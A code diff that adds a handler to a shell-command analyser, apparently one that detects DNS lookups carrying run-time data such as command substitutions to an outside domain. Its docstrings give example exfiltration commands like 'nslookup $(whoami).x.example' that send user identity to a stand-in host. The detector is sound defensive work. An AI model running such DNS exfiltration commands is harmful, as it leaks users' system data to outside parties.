@@ -220,6 +220,36 @@ def _remote_shell(unit: Unit, program: str, spec: Entry, rest: list[Word], ctx: 
         unit.embedded("shell", ctx.stdin.constant or "", ctx.stdin.origin or unit.node_location(ctx.node), hint=program)
 
 
+def _dns(unit: Unit, program: str, spec: Entry, rest: list[Word], ctx: CommandContext) -> None:
+    """``nslookup $(whoami).x.example``: a name looked up carries its labels to the servers of
+    the domain it ends in. A name with a part made at run time (a substitution, a variable)
+    before a constant domain sends that part there; a constant name, or one all of whose value
+    is a variable (a configured host), sends nothing."""
+    args = parse_args(rest, spec.get("options_with_arg", []))
+    for word in args.operands:
+        if word.value is not None or word.shown.startswith("@"):
+            continue
+        domain = _constant_suffix(word.text)
+        if "." not in domain.strip(".") or domain.strip(".") == word.text:
+            continue
+        secrets = [(URL_CARRIER, secret) for secret in secrets_of_words(unit, [word])]
+        if not secrets and not word.substitutions:
+            continue  # "$SVC.ns.svc.cluster.local": a configured name, not data
+        data = [] if secrets else [(URL_CARRIER, f"the looked-up name {word.text}")]
+        _send(unit, ctx, program, domain.strip("."), secrets, data)
+
+
+def _constant_suffix(text: str) -> str:
+    """The constant end of a word after its last expansion (``$(id -u).x.example`` -> ``.x.example``)."""
+    ends = [m.end() for m in _EXPANSION_END.finditer(text)]
+    return text[max(ends):].strip("\"'") if ends else ""
+
+
+# The end of an expansion in a word as written: $(...), `...`, ${...}, $name.
+_EXPANSION_END = re.compile(r"\$\((?:[^()]|\([^()]*\))*\)|`[^`]*`|\$\{[^}]*\}|\$[A-Za-z_][A-Za-z0-9_]*|\$[0-9@*#?]")
+URL_CARRIER = "url"
+
+
 def _remote_module(unit: Unit, program: str, spec: Entry, rest: list[Word], ctx: CommandContext) -> None:
     """``ansible hosts -m shell -a 'cmd'``: the argument of a shell-running module runs on every host."""
     args = parse_args(rest, spec.get("options_with_arg", []))
@@ -272,4 +302,4 @@ def _stdin_source(ctx: CommandContext) -> str | None:
 Handler = Callable[[Unit, str, Entry, list[Word], CommandContext], None]
 _KINDS: dict[str, Handler] = {
     "http": _http, "httpie": _httpie, "copy": _copy, "session": _session, "stream": _stream, "socat": _socat,
-    "remote_shell": _remote_shell, "remote_module": _remote_module, "cloud_copy": _cloud_copy}
+    "remote_shell": _remote_shell, "remote_module": _remote_module, "cloud_copy": _cloud_copy, "dns": _dns}
